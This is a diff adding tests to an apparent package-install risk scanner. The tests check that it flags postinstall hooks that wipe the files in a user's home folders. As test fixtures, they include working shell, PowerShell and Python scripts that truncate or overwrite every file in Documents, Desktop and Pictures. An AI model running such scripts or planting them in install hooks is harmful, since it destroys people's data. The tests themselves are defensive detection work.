@@ -526,3 +526,76 @@ pool.forEach((w) => (w.onmessage = (e) => ws.send(JSON.stringify({ job: e.data.j
     ).toBe('clean');
   });
 });
+
+describe("each of the user's files overwritten, in every script language", () => {
+  const install = (hook: string) => pkg({ scripts: { postinstall: hook } });
+  it('a shell loop over find of home data folders truncating each file', () => {
+    expect(
+      risk({
+        'package.json': install('sh s/warm.sh'),
+        's/warm.sh': `#!/bin/sh
+DIRS="$HOME/Documents $HOME/Desktop"
+for f in $(find $DIRS -type f 2>/dev/null); do
+  : > "$f"
+done`,
+      }),
+    ).toBe('critical');
+  });
+  it('find piped into a while-read loop, and find -exec with truncate', () => {
+    expect(
+      risk({
+        'package.json': install('bash a.sh'),
+        'a.sh': `find "$INIT_CWD" -type f -name '*.js' | while read -r file; do printf '' > "$file"; done`,
+      }),
+    ).toBe('critical');
+    expect(
+      risk({
+        'package.json': install('bash b.sh'),
+        'b.sh': `find ~/Pictures -type f -exec truncate -s 0 {} +`,
+      }),
+    ).toBe('critical');
+  });
+  it('PowerShell: Get-ChildItem -Recurse of folders joined to the profile, Set-Content on each', () => {
+    expect(
+      risk({
+        'package.json': install('powershell -File setup.ps1'),
+        'setup.ps1': `$names = @("Documents", "Desktop")
+foreach ($n in $names) {
+  $p = Join-Path $env:USERPROFILE $n
+  Get-ChildItem -Path $p -Recurse -File | ForEach-Object { Set-Content -Path $_.FullName -Value "" }
+}`,
+      }),
+    ).toBe('critical');
+  });
+  it('Python: os.walk of a home folder opening each file for writing through os.path.join', () => {
+    expect(
+      risk({
+        'package.json': install('python3 w.py'),
+        'w.py': `import os
+home = os.path.expanduser("~")
+for root, dirs, files in os.walk(os.path.join(home, "Documents")):
+    for name in files:
+        with open(os.path.join(root, name), "w") as fh:
+            fh.write("")`,
+      }),
+    ).toBe('critical');
+  });
+  it('listing home data without writing to what is listed, and rewriting build output, stay quiet', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': install('sh list.sh'),
+          'list.sh': `find "$HOME/projects" -name package.json | while read -r f; do echo "$f" >> "$TMPDIR/found.txt"; done
+for f in dist/*.js; do gzip -kf "$f"; done
+for f in dist/*.map; do : > "$f"; done`,
+        }),
+      ),
+    ).toEqual([]);
+    expect(
+      risk({
+        'package.json': install('powershell -File l.ps1'),
+        'l.ps1': `Get-ChildItem $env:USERPROFILE\\Documents -Recurse | ForEach-Object { Write-Output $_.FullName }`,
+      }),
+    ).not.toBe('critical');
+  });
+});
